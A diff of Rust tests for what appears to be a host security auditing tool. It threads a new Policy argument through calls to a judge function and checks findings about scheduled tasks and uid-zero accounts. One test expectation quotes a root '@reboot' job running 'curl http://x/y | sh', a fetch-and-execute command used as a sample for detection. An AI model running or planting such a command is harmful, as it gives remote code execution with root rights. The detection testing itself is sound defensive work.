@@ -11,7 +11,7 @@ fn at(path: &str) -> Evidence {
 
 fn subjects(inventory: &Inventory) -> Vec<(String, String)> {
     let knowledge = Knowledge::load(&[]).unwrap();
-    judge(&knowledge, &Baselines::default(), "2026-01-01", &Scene::default(), inventory, &[])
+    judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &Scene::default(), inventory, &[])
         .findings
         .into_iter()
         .map(|f| (f.rule, f.subject))
@@ -41,7 +41,8 @@ fn words_are_filled_and_ids_do_not_depend_on_them() {
         ..Task::default()
     };
     let inventory = Inventory { tasks: Arc::new(vec![task]), ..Inventory::default() };
-    let judged = judge(&knowledge, &Baselines::default(), "2026-01-01", &Scene::default(), &inventory, &[]);
+    let judged =
+        judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &Scene::default(), &inventory, &[]);
     let finding = judged.findings.first().unwrap();
     assert!(finding.observed.contains("By the schedule '@reboot', root runs: curl http://x/y | sh."), "{finding:?}");
     assert_eq!(finding.id, crate::base::short_id("f", &[finding.rule.as_bytes(), b"", finding.subject.as_bytes()]));
@@ -129,7 +130,7 @@ fn joins_follow_cells_within_a_system() {
         tasks: Arc::new(vec![Task { system: Some(0), program: Some("/opt/d".into()), ..Task::default() }]),
         ..Inventory::default()
     };
-    let judged = judge(&knowledge, &Baselines::default(), "", &Scene::default(), &inventory, &[]);
+    let judged = judge(&knowledge, &Baselines::default(), &Policy::default(), "", &Scene::default(), &inventory, &[]);
     let own: Vec<&Finding> = judged.findings.iter().filter(|f| f.rule == "own-rule").collect();
     assert_eq!(own.len(), 1, "{own:?}");
     let finding = own.first().unwrap();
@@ -180,11 +181,12 @@ suppressed-by = ["account-with-uid-zero"]
     let mut other = account("service", 0);
     other.evidence.line = Some(2);
     let inventory = Inventory { accounts: Arc::new(vec![root, other]), ..Inventory::default() };
-    let found: Vec<(String, String)> = judge(&knowledge, &Baselines::default(), "", &Scene::default(), &inventory, &[])
-        .findings
-        .into_iter()
-        .map(|f| (f.rule, f.subject))
-        .collect();
+    let found: Vec<(String, String)> =
+        judge(&knowledge, &Baselines::default(), &Policy::default(), "", &Scene::default(), &inventory, &[])
+            .findings
+            .into_iter()
+            .map(|f| (f.rule, f.subject))
+            .collect();
     assert_eq!(
         found,
         [("account-with-uid-zero".to_owned(), "service".to_owned()), ("own-rule".to_owned(), "root".to_owned())]
